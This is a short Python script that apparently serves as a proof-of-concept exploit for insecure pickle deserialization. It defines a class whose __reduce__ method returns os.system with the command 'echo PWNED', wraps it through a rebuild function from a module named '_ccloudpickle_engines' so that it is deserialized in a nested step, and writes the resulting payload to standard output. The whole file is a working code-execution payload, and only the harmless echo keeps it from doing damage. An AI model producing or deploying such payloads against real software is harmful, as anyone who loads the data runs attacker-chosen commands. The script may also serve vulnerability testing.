import pickle, sys, _ccloudpickle_engines as E
class R:
    def __reduce__(self):
        import os
        return (os.system, ('echo PWNED',))
class W:
    def __reduce__(self):
        return (E._rebuild, (pickle.dumps(R()), False))
sys.stdout.buffer.write(pickle.dumps(W()))
